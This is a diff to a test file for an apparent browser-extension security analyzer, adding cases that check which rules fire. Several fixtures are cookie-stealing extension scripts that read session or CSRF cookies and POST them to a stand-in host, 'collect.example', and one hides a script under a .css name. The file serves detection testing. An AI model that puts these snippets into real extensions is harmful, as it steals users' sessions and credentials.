@@ -10,9 +10,10 @@ interface Case {
   readonly permissions: readonly string[];
   readonly script: string;
   readonly more?: Readonly<Record<string, string>>;
+  readonly contentScripts?: readonly object[];
 }
 
-async function rulesOf({ permissions, script, more = {} }: Case): Promise<readonly string[]> {
+async function rulesOf({ permissions, script, more = {}, contentScripts }: Case): Promise<readonly string[]> {
   const manifest = {
     manifest_version: 3,
     name: 'Sample',
@@ -20,6 +21,7 @@ async function rulesOf({ permissions, script, more = {} }: Case): Promise<readon
     permissions: permissions.filter((one) => !one.includes('/')),
     host_permissions: permissions.filter((one) => one.includes('/')),
     background: { service_worker: 'background.js' },
+    ...(contentScripts === undefined ? {} : { content_scripts: contentScripts }),
   };
   const files = { 'manifest.json': JSON.stringify(manifest), 'background.js': script, ...more };
   const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
@@ -28,6 +30,22 @@ async function rulesOf({ permissions, script, more = {} }: Case): Promise<readon
 
 const SESSION =
   "chrome.cookies.get({ url: 'https://www.shop.example/', name: 'reddit_session' }, (c) => fetch('ADDRESS', { method: 'POST', body: c.value }));";
+
+const HELPER =
+  "const token = (site, name) => new Promise((done) => chrome.cookies.get({ url: site, name }, (c) => done(c.value))); (async () => { await fetch('ADDRESS', { method: 'POST', body: await token('https://www.shop.example', 'csrf') }); })();";
+
+/** A content script of these sites whose module reads cookies, which the background sends to one site. */
+const ofModule = (matches: string): Case => ({
+  permissions: ['<all_urls>'],
+  script:
+    "chrome.runtime.onMessage.addListener((m) => { fetch('https://api.shop.example/cart', { method: 'POST', body: m.token }); });",
+  contentScripts: [{ matches: [matches], js: ['content.js'] }],
+  more: {
+    'content.js':
+      "import { token } from './token.js'; document.addEventListener('load', () => chrome.runtime.sendMessage({ token: token() }));",
+    'token.js': 'export const token = () => document.cookie;',
+  },
+});
 
 it.each<[string, Case, readonly string[], Case, readonly string[]]>([
   [
@@ -59,6 +77,23 @@ it.each<[string, Case, readonly string[], Case, readonly string[]]>([
     ['hides-from-extension-page'],
   ],
   [
+    'style sheets that are registered with scripts, and a text that a bundler takes in',
+    {
+      permissions: ['scripting'],
+      script:
+        "import text from './LICENSE?raw'; document.title = text; chrome.scripting.registerContentScripts([{ id: 'a', css: ['/all.css'], js: ['/b.js'], matches: ['https://shop.example/*'] }]);",
+      more: { 'all.css': 'run()', 'b.js': '', LICENSE: 'run()' },
+    },
+    [],
+    {
+      permissions: ['scripting'],
+      script:
+        "chrome.scripting.registerContentScripts([{ id: 'a', js: ['/all.css'], matches: ['https://shop.example/*'] }]);",
+      more: { 'all.css': 'run()' },
+    },
+    ['script-under-other-name'],
+  ],
+  [
     'a style that a bundler makes a text of',
     {
       permissions: [],
@@ -68,6 +103,26 @@ it.each<[string, Case, readonly string[], Case, readonly string[]]>([
     [],
     { permissions: [], script: "importScripts('panel.css');", more: { 'panel.css': 'run()' } },
     ['script-under-other-name'],
+  ],
+  [
+    'a cookie by a helper that is told the site, which goes back there',
+    {
+      permissions: ['cookies', '<all_urls>'],
+      script: HELPER.replace('ADDRESS', 'https://api.shop.example/token'),
+    },
+    [],
+    {
+      permissions: ['cookies', '<all_urls>'],
+      script: HELPER.replace('ADDRESS', 'https://collect.example/x'),
+    },
+    ['browsing-data-to-network'],
+  ],
+  [
+    "cookies of the one site of a content script, read in a module of it and sent to the site's interface",
+    ofModule('https://www.shop.example/*'),
+    [],
+    ofModule('https://*/*'),
+    ['input-to-network'],
   ],
 ])('does not tell %s', async (_, harmless, silent, harmful, told) => {
   expect(await rulesOf(harmless)).toEqual(silent);
